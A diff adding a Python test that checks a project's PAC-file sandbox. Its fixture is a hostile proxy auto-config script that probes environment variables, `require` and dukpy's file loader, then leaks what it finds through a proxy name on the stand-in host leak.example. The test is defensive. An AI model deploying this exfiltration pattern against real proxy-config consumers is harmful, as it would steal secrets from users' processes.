@@ -193,3 +193,31 @@ def test_a_pac_file_that_cannot_be_fetched_or_run_goes_the_system_way_and_says_w
     text = PAC_FAILOVER
     assert pac.proxy("https://graph.microsoft.com/") == "http://a.contoso.com:8080"
     assert len(calls) == 2 and pac.loaded and pac.error == ""
+
+
+PAC_SNOOP = """function FindProxyForURL(url, host) {
+  var found = [];
+  try { if (process.env.LIFEBOAT_TEST_SECRET) found.push("env"); } catch (e) {}
+  try { if (require("semver")) found.push("require"); } catch (e) {}
+  try { if (call_python("dukpy.load_module", "semver")) found.push("file"); } catch (e) {}
+  if (found.length) return "PROXY " + found.join("-") + ".leak.example:1";
+  return isInNet("10.1.2.3", "10.0.0.0", "255.0.0.0") && shExpMatch(host, "*.microsoft.com")
+      ? "PROXY ok.contoso.com:8080" : "DIRECT";
+}"""
+
+
+def test_a_pac_script_cannot_read_the_environment_or_files(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Tried: a PAC file (which may come over plain http) reading the process environment (Node's
+    process.env, which dukpy hands every script), `require` and dukpy's file loader, to leak them
+    through a proxy name: none is there, while the PAC functions (isInNet, shExpMatch) still work.
+    pypac's own PACFile lets the script see all three."""
+    from pypac.parser import PACFile
+
+    from sync.sources.pac import Pac
+
+    monkeypatch.setenv("LIFEBOAT_TEST_SECRET", "hunter2")
+    plain = PACFile(PAC_SNOOP).find_proxy_for_url("https://graph.microsoft.com/", "graph.microsoft.com")
+    assert plain == "PROXY env-require-file.leak.example:1"
+    pac = Pac("http://pac.contoso.com/p.pac", lambda url: PAC_SNOOP)
+    assert pac.proxy("https://graph.microsoft.com/v1.0/me") == "http://ok.contoso.com:8080"
+    assert pac.proxy("https://example.org/") is None
